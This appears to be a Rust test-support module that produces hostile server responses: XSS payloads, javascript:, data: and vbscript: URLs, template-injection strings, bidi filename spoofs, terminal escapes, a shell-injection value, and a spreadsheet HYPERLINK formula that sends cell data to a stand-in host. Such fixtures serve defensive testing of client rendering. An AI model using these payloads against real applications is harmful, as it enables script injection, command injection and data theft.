//! The texts of hostile responses. Payloads that run set a global, `hostileRan`, which tests can detect.

/// Markup appended to every id. Lower case, because ids are compared in lower case.
pub(super) const TAIL: &str = "\"><svg/onload=globalthis.hostileran=1>";

/// The size of a text that a client still reads, in bytes.
pub(super) const LONG: usize = 5_000_000;
/// The size of a text that makes a response too large for a client, in bytes.
pub(super) const HUGE: usize = 11_000_000;
/// The size of every other text, in bytes.
pub(super) const WITHOUT_BREAK: usize = 20_000;

/// The number of different texts.
pub(super) const N_TEXTS: usize = 17;

/// The `n`th hostile text, usually around a name.
pub(super) fn text(n: usize, name: &str) -> String {
    match n % N_TEXTS {
        0 => format!("<script>globalThis.hostileRan='script'</script>{name}"),
        1 => format!("<img src=x onerror=\"globalThis.hostileRan='img'\">{name}"),
        2 => format!("{name}\u{2069}\u{2069}\u{2069}\u{202e}txt.exe"),
        3 => format!("\"'><svg onload=globalThis.hostileRan='svg'>{name}"),
        4 => format!("{{{{constructor.constructor('globalThis.hostileRan=1')()}}}}${{7*7}}#{{7*7}}{name}"),
        5 => format!("{name}\u{202e}gpj.exe"),
        6 => format!("\u{2066}\u{2067}\u{202b}{name}"),
        7 => name.chars().flat_map(|c| std::iter::once(c).chain(zalgo())).collect(),
        8 => format!("{}{name}{}", "\u{200b}\u{2060}".repeat(300), "\u{200d}\u{feff}".repeat(300)),
        9 => format!("{name}\u{0}\u{7}\u{1b}[31m\u{9b}2J\r\n\u{85}\u{2028}second line"),
        10 => format!("{}{name}", "W".repeat(400)),
        11 => format!("javascript:globalThis.hostileRan='link' {name}"),
        12 => format!("=HYPERLINK(\"https://hostile.example/?\"&A1,\"{name}\")"),
        13 => format!("'; touch hostile; $(touch hostile) `touch hostile` \\ {name}"),
        14 => format!("]]>--></title></textarea></style><a href=javascript:globalThis.hostileRan=1>{name}"),
        15 => "\u{200b}\u{200d}\u{2063}".to_owned(),
        _ => format!("{{name}} {{count}} %s %n &lt;b&gt; &#x202e; {name}"),
    }
}

/// A flood of combining marks for one letter.
fn zalgo() -> impl Iterator<Item = char> {
    ["\u{300}\u{316}\u{489}\u{336}"; 40].into_iter().flat_map(str::chars)
}

/// The `n`th hostile URL of a page or picture.
pub(super) fn link(n: usize) -> &'static str {
    const LINKS: [&str; 8] = [
        "javascript:globalThis.hostileRan='link'",
        "JaVaScRiPt\t:globalThis.hostileRan='link'",
        "\u{1}java\nscript:globalThis.hostileRan='link'",
        "data:text/html,<script>globalThis.hostileRan='data'</script>",
        " data:image/svg+xml,<svg onload=globalThis.hostileRan='data'>",
        "https://hostile.example/pixel.png",
        "//hostile.example/pixel.png",
        "vbscript:msgbox(1)",
    ];
    LINKS[n % LINKS.len()]
}
